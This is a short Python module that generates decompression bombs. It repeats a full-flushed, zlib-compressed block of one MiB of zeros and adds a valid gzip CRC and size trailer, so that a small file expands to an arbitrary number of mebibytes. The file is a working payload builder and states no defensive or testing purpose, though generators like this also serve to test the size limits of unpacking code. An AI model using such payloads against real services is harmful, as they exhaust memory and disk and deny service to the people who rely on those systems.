"""Small files that unpack to large ones."""

import struct
import zlib
from functools import reduce

_MIB = 1 << 20


def bomb(mebibytes, wbits, checksum, end):
    """A compressed file of one letter: what a MiB of it becomes, again and again."""
    letters, packer = b"0" * _MIB, zlib.compressobj(wbits=wbits)
    first, again = (packer.compress(letters) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    total = reduce(lambda value, _: checksum(letters, value), range(1, mebibytes), checksum(letters))
    return first + again * (mebibytes - 1) + zlib.compressobj(wbits=-15).flush() + end(total)


def gzip_bomb(mebibytes):
    return bomb(mebibytes, 31, zlib.crc32, lambda checksum: struct.pack("<LL", checksum, mebibytes * _MIB))
